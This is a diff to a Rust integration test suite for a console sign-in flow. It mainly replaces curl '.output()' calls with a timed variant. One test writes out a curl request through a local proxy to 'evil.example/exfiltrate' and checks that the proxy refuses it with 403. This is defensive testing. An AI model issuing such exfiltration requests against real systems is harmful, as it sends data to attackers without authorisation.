@@ -7,6 +7,7 @@ use std::time::{Duration, Instant};
 
 use crate::rigs::browser::browser;
 use crate::rigs::console::{console_rig, sign_in};
+use crate::rigs::wait::Within;
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn spoiled_id_tokens_are_refused_and_recorded_and_a_good_one_signs_in() {
@@ -59,7 +60,7 @@ async fn a_provider_down_at_start_delays_sign_in_only() {
     let page = |rig: &crate::rigs::console::ConsoleRig| {
         let out = crate::rigs::process::curl()
             .arg(rig.url("/console/login"))
-            .output()
+            .timed_output()
             .unwrap();
         String::from_utf8_lossy(&out.stdout).into_owned()
     };
@@ -129,7 +130,7 @@ async fn a_token_signs_in_too_and_a_wrong_one_is_refused_and_recorded() {
         .args(["-o", "/dev/null", "-w", "%{http_code}"])
         .args(["-x", &format!("http://sb1:tok1@127.0.0.1:{}", rig.proxy)])
         .arg(format!("http://evil.example:{}/exfiltrate", rig.up.addr.port()))
-        .output()
+        .timed_output()
         .unwrap();
     assert_eq!(String::from_utf8_lossy(&refused.stdout), "403");
     b.client.refresh().await.unwrap();
